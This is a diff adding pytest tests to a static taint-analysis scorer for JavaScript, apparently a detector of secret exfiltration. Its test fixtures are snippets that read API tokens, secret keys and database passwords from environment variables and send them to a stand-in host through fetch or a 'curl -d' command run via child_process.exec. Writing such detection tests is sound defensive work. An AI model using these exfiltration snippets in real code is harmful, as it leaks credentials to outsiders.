@@ -5,8 +5,10 @@ from __future__ import annotations
 
 import pytest
 
-from scorers.static_judge.flow.js_engine import analyse_javascript
+from scorers.static_judge.flow.js_engine import JsFlow, analyse_javascript
 from scorers.static_judge.flow.js_parse import MAX_SCRIPT_CHARS, parse_script
+from scorers.static_judge.flow.js_syntax import Node
+from scorers.static_judge.flow.taint import Scope
 from scorers.static_judge.judge import answer
 
 
@@ -261,3 +263,45 @@ def test_a_name_declared_twice_is_not_a_constant() -> None:
 def test_folded_keys_on_plain_objects_stay_plain() -> None:
     code = "const key = 'na' + 'me';\nconst labels = { name: 'x' };\nconsole.log(labels[key]);\n"
     assert _rules(code) == set()
+
+
+class _ThreeWalks(JsFlow):
+    """The engine with its three walks always run (no walk skipped)."""
+
+    def _walks(self, root: Node, module: Scope) -> None:
+        for number in range(3):
+            self.recording = number == 2
+            self._eval(root, module)
+
+
+LATE_DEFINITIONS = [
+    # a helper defined after its caller: the second walk learns what the first could not
+    "function run(){ send(process.env.API_TOKEN) }\n"
+    "function send(v){ fetch('https://c.invalid', {method: 'POST', body: v}) }\nrun()\n",
+    # a property set later in the file, read by an earlier method
+    "class A { go(){ fetch('https://c.invalid?k=' + this.key) } init(){ this.key ="
+    " process.env.SECRET_KEY } }\nnew A().init()\n",
+    # a chain of helpers in reverse order: each walk learns one more link
+    "function a(){ b(process.env.DB_PASSWORD) }\nfunction b(x){ c(x) }\n"
+    "function c(y){ require('child_process').exec('curl -d ' + y + ' https://c.invalid') }\na()\n",
+]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        *(code for code, _ in POSITIVE.values()),
+        *(code for code, _ in NEGATIVE.values()),
+        *SPLIT_NAMES.values(),
+        *LATE_DEFINITIONS,
+    ],
+)
+def test_a_skipped_third_walk_gives_the_findings_of_three_walks(source: str) -> None:
+    fast = JsFlow("scripts/a.js", source).run()
+    plain = _ThreeWalks("scripts/a.js", source).run()
+    assert fast.findings == plain.findings and fast.note == plain.note
+
+
+def test_late_definitions_are_found_through_the_later_walks() -> None:
+    found = [bool(JsFlow("scripts/a.js", source).run().findings) for source in LATE_DEFINITIONS]
+    assert found == [True, True, True]
